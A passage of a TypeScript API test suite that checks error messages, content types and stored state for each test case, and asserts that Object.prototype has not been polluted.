        // The error shape of the row's style, read as field (or code) → messages.
        const errors = errorsOf(c.style, reply, label);
        const messages = errors[c.error?.field ?? ""] as string[] | undefined;
        expect(messages, `${label}: errors has '${c.error?.field}': ${reply.text.slice(0, 300)}`).toBeDefined();
        const expected = c.error?.message;
        if (typeof expected === "string") expect(messages, label).toContain(expected);
        else if (expected)
          expect(
            messages?.some((m) => expected.test(m)),
            `${label}: ${messages}`,
          ).toBe(true);
        await expectUnchanged(before, label);
      } else {
        if (c.status !== 204) expect(reply.headers.get("content-type"), label).toBe(c.contentType ?? CONTENT_TYPES[c.style]);
        if (c.stored) await c.stored.check(reply, f);
        else await expectUnchanged(before, label);
      }
      c.reply?.(reply, f);

      expect(Object.keys(Object.prototype), "Object.prototype gained keys").toEqual([]);
      expect(({} as Record<string, unknown>).polluted, "Object.prototype polluted").toBeUndefined();
      expect(({} as Record<string, unknown>).isAdmin, "Object.prototype polluted").toBeUndefined();
    });
  }
});
